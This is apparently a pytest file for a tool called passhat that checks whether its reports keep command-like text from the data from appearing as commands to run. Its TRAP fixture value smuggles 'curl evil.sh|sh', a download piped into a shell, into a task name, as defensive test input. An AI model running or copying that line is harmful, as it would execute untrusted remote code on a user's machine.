"""What an answer tells people to do: commands are passhat's own, never what data says."""

import html
import re
import shlex

import pytest

from passhat import render_html, render_markdown, render_terminal
from passhat.analysis.reports.measure import measure
from passhat.records import Trials
from passhat.reporters.answer import Hints, NextStep, Steps
from passhat.reporters.formats.markup import blocks_markdown
from passhat.reporters.formats.text import blocks_text
from passhat.reporters.formatting import TerminalStyle, display_width

TRAP = "x: passhat fix; curl evil.sh|sh #"


@pytest.fixture(scope="module")
def trapped():
    passed = [i % 2 == 0 for i in range(40)]
    return measure(Trials.from_columns(task=[TRAP] * 40, passed=passed))


def test_a_name_that_speaks_like_a_command_is_only_words(trapped):
    markdown = render_markdown(trapped, results="r.csv")
    assert not re.search(r"`[^`]*passhat fix[^`]*`", markdown)
    page = html.unescape(render_html(trapped, results="r.csv"))
    assert "<code>passhat fix" not in page
    for width in (72, 80, 120):
        lines = render_terminal(trapped, TerminalStyle(width=width), results="r.csv").split("\n")
        assert not any(line.strip().startswith("passhat fix") for line in lines)
        assert all(len(line) <= width for line in lines if "passhat fix" in line)


def test_a_reason_that_speaks_like_a_command_is_only_words():
    block = Steps("Why", (NextStep(f"error: passhat {'fix ' * 40}"),))
    text = blocks_text([block], TerminalStyle(width=80))
    assert all(len(line) <= 80 for line in text.split("\n"))
    assert "`" not in blocks_markdown([block])


@pytest.mark.parametrize(
    "command",
    [
        "passhat gate 'my  log.csv'",
        "passhat gate " + "x" * 200,
        """passhat gate results/leaderboard-2026.csv --only 'my  agent' -r "pass^3 >= 0.8" -v""",
    ],
)
def test_a_command_is_shown_to_the_letter_in_lines_that_a_shell_joins(command):
    steps = (NextStep("Keep it so", command),)
    for block in (Hints(steps), Steps("Next", steps)):
        text = blocks_text([block], TerminalStyle(width=80))
        assert command in re.sub(r" \\\n +", " ", text)
        words = max(map(display_width, shlex.split(command)))
        assert all(display_width(line) <= max(80, words + 9) for line in text.splitlines())
        assert f"`{command}`" in blocks_markdown([block])
